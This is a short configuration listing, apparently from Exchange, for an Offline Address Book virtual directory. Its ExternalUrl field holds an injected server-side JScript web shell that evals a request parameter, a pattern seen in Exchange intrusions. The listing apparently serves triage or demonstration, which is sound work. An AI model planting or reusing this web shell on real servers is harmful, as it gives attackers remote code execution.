OfflineAddressBook
Name                            : OAB (Default Web Site)
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["triage_demo"],"unsafe");}</script>
InternalUrl                     : https://exch01.corp.example/OAB
